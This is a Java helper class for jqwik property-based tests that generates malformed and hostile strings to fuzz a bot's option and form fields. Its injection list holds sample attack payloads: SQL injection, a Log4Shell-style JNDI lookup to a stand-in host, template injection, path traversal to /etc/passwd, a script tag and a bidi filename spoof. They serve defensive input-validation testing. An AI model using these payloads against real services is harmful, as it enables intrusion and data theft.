package app.plugboard.badinput;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * What a person (or a forged client) may type into any option or field: any UTF-16 text, with the characters
 * that break naive code made likely. Control characters and NUL, Unicode format characters (bidi overrides,
 * zero-width ones, the byte order mark), unpaired surrogates and pairs cut in half, characters outside the BMP,
 * whitespace of every kind; empty, whitespace only, and up to 4,000 characters (Discord's longest form value;
 * the terminal has no limit); and, mixed in, text that looks right with one of those inside, and the
 * usual injections (SQL, markdown, mentions, format strings, numbers that do not fit).
 */
final class BadValues {

    /** Discord's longest text input; the terminal takes longer lines too. */
    static final int LONGEST = 4000;

    private static final char[] NASTY = {
            '\u0000', '\u0001', '\u0007', '\b', '\t', '\n', '\u000B', '\f', '\r', '\u001B', '\u007F', // C0 controls, DEL
            '\u0085', '\u0080', '\u009F', // C1 controls
            '\u00A0', '\u2007', '\u2028', '\u2029', '\u3000', '\u1680', // whitespace and separators
            '\u00AD', '\u061C', '\u180E', '\u200B', '\u200C', '\u200D', '\u200E', '\u200F', // format: soft hyphen, marks, zero width
            '\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\uFEFF', // bidi, BOM
            '\uD800', '\uDBFF', '\uDC00', '\uDFFF', // unpaired surrogates
            '\uFFFD', '\uFFFE', '\uFFFF', '\uE000', // replacement, noncharacters, private use
            '"', '\'', '`', '\\', '*', '_', '~', '|', '<', '>', '@', '#', ':', '%', '$', '{', '}', '[', ']', ',', ';', '/'};
    private static final List<String> INJECTIONS = List.of(
            "'; drop table integration; --", "\" or 1=1 --", "Robert'); DELETE FROM workflow;--",
            "@everyone", "<@123456789012345678>", "**bold** __under__ ~~gone~~ ||spoiler|| `code`", "[link](https://evil.example)",
            "%s%s%n%d", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "../../../etc/passwd", "<script>alert(1)</script>",
            "null", "undefined", "NaN", "-1", "0", "65536", "99999999999999999999", "0x7f", "1e9", "993 ", " 993",
            "int:del-ok", "::::", "/integration delete", "//quit", "/quit", "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
            "java.lang.NullPointerException", "\u202Egnp.exe");
    private static final List<String> PLAUSIBLE = List.of(
            "Work mail", "alice@example.com", "imap.example.com", "993", "https://calendar.example.com/a.ics",
            "webcal://calendar.example.com/a.ics", "Morning digest", "hunter2");

    private BadValues() {
    }

    /** Any of the kinds below, the nastier ones more often. */
    static Arbitrary<String> any() {
        return Arbitraries.frequencyOf(
                Tuple.of(5, Arbitraries.strings().all().ofMaxLength(40)),
                Tuple.of(4, nasty(0, 30)),
                Tuple.of(2, whitespaceOnly()),
                Tuple.of(1, Arbitraries.just("")),
                Tuple.of(2, long_()),
                Tuple.of(3, plausibleWithNastyInside()),
                Tuple.of(2, Arbitraries.of(INJECTIONS)),
                Tuple.of(1, Arbitraries.strings().withCharRange('\u0000', '\u001F').ofMinLength(1).ofMaxLength(5)),
                Tuple.of(1, Arbitraries.strings().withCharRange('\uD800', '\uDFFF').ofMinLength(1).ofMaxLength(4)),
                Tuple.of(1, supplementary()));
    }

    /** Mostly the nasty characters above, with some plain ones between them. */
    static Arbitrary<String> nasty(int minLength, int maxLength) {
        return Arbitraries.strings().withChars(NASTY).withChars("aZ09 .-").ofMinLength(minLength).ofMaxLength(maxLength);
    }

    static Arbitrary<String> whitespaceOnly() {
        return Arbitraries.strings().withChars(' ', '\t', '\n', '\r', '\u000B', '\f', '\u00A0', '\u2007', '\u2028', '\u3000',
                '\u1680', '\u200B', '\uFEFF').ofMinLength(1).ofMaxLength(12);
    }

    /** From 3,900 characters to Discord's 4,000: all the same, all different, or nasty ones. */
    static Arbitrary<String> long_() {
        Arbitrary<Integer> length = Arbitraries.integers().between(LONGEST - 100, LONGEST);
        return Arbitraries.oneOf(
                length.map("a"::repeat),
                length.map("\u202E"::repeat),
                length.flatMap(n -> Arbitraries.strings().all().ofLength(n)),
                length.flatMap(n -> nasty(n, n)),
                length.map(n -> "alice@example.com" + "x".repeat(n - 17)));
    }

    static Arbitrary<String> plausibleWithNastyInside() {
        return Combinators.combine(Arbitraries.of(PLAUSIBLE), nasty(1, 3), Arbitraries.integers().between(0, 100))
                .as((plain, inside, where) -> {
                    int at = Math.min(plain.length(), where * plain.length() / 100);
                    return plain.substring(0, at) + inside + plain.substring(at);
                });
    }

    /** Emoji and other characters beyond the BMP, sometimes cut in half. */
    static Arbitrary<String> supplementary() {
        return Combinators.combine(Arbitraries.integers().between(0x10000, 0x10FFFF).list().ofMinSize(1).ofMaxSize(6),
                        Arbitraries.of(true, false))
                .as((codePoints, cut) -> {
                    StringBuilder text = new StringBuilder();
                    codePoints.forEach(text::appendCodePoint);
                    return cut ? text.substring(0, text.length() - 1) : text.toString();
                });
    }
}
